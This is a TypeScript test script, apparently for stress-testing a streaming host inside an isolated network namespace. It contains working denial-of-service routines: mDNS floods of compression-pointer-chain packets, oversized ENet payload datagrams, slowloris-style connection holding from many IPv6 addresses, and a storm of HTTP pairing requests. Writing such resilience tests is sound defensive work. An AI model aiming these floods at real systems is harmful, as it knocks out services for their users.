import dgram from 'node:dgram';
import http from 'node:http';
import net from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

/*
 * What somebody on the network does to a host, for some seconds: stranger KIND HOST BASE_PORT SECONDS. It runs in a
 * namespace of its own (test/attack/namespaces).
 */

const [kind = '', host = '', base = '', seconds = '0'] = process.argv.slice(2);
const basePort = Number(base);
const end = performance.now() + Number(seconds) * 1000;
/** the addresses of its /64 */
const ADDRESSES = Array.from({ length: 25 }, (_, n) => `fd77:2::${n + 16}`);
const HOST_V6 = 'fd77:2::1';

async function flood(port: number, datagram: Buffer, perSecond: number): Promise<void> {
  const socket = dgram.createSocket('udp4');
  let sent = 0;
  const began = performance.now();
  while (performance.now() < end) {
    const due = ((performance.now() - began) / 1000) * perSecond;
    for (; sent < due; sent += 1) socket.send(datagram, port, host, () => {});
    await sleep(5);
  }
  socket.close();
  console.log(`${sent} datagrams of ${datagram.length} bytes`);
}

/** Names of one label that each point to the one before: 60 kB that take a naive decoder half a second. */
function pointerChains(): Buffer {
  const parts: Buffer[] = [Buffer.from([0, 0, 0, 0, 0x20, 0, 0, 0, 0, 0, 0, 0])];
  parts.push(Buffer.from([1, 0x61, 0, 0, 1, 0, 1]));
  for (let at = 19, target = 12; at < 0x3ff0; target = at, at += 6) {
    parts.push(Buffer.from([0xc0 | (target >> 8), target & 0xff, 0, 1, 0, 1]));
  }
  const last = 0x3ff0;
  while (parts.length < 8000) {
    parts.push(Buffer.from([0xc0 | (last >> 8), last & 0xfa, 0, 1, 0, 1]));
  }
  return Buffer.concat(parts).subarray(0, 60_000);
}

/** 1,666 payload commands in one datagram, as to peer 0. */
function manyPayloads(): Buffer {
  const one = Buffer.alloc(36, 0x5a);
  one.set([0x49, 0, 0, 0, 0, 1, 0, 28]);
  return Buffer.concat([Buffer.from([0, 0]), ...Array<Buffer>(1666).fill(one)]);
}

/** Connections from every address of a /64, a byte now and then. */
async function hold(ports: readonly number[], perAddress: number): Promise<void> {
  const sockets = new Set<net.Socket>();
  let opened = 0;
  let refused = 0;
  const open = (port: number, localAddress: string): void => {
    const socket = net.connect({ port, host: HOST_V6, localAddress });
    sockets.add(socket);
    socket.on('connect', () => (opened += 1));
    socket.on('error', () => {});
    socket.on('close', () => {
      sockets.delete(socket);
      refused += 1;
      if (performance.now() < end) setTimeout(() => open(port, localAddress), 200);
    });
  };
  for (const address of ADDRESSES) {
    for (const port of ports) for (let n = 0; n < perAddress; n += 1) open(port, address);
  }
  while (performance.now() < end) {
    for (const socket of sockets) if (!socket.connecting) socket.write('O');
    await sleep(200);
  }
  for (const socket of sockets) socket.destroy();
  console.log(`${opened} connections opened, ${refused} of them closed by the host`);
}

async function pairingStorm(perSecond: number): Promise<void> {
  const agent = new http.Agent({ maxSockets: 40 });
  let asked = 0;
  let answered = 0;
  const began = performance.now();
  while (performance.now() < end) {
    const due = ((performance.now() - began) / 1000) * perSecond;
    for (; asked < due; asked += 1) {
      const path =
        `/pair?uniqueid=${asked.toString(16).padStart(16, '0')}&devicename=x&updateState=1` +
        `&phrase=getservercert&salt=${'00'.repeat(16)}&clientcert=${Buffer.from('x').toString('hex')}`;
      http
        .get({ host, port: basePort, path, agent }, (response) => {
          response.resume();
          answered += 1;
        })
        .on('error', () => {});
    }
    await sleep(5);
  }
  console.log(`${asked} requests to pair, ${answered} answered`);
}

switch (kind) {
  case 'mdns':
    // 4 Mbit/s
    await flood(5353, pointerChains(), 8.3);
    break;
  case 'mdns-small':
    await flood(5353, pointerChains().subarray(0, 1200), 2000);
    break;
  case 'enet':
    await flood(basePort + 10, manyPayloads(), 30);
    break;
  case 'hold':
    await hold([basePort, basePort - 5, basePort + 1, basePort + 21], 4);
    break;
  case 'pair':
    await pairingStorm(500);
    break;
  default:
    throw new Error(`unknown attack "${kind}"`);
}
process.exit(0);
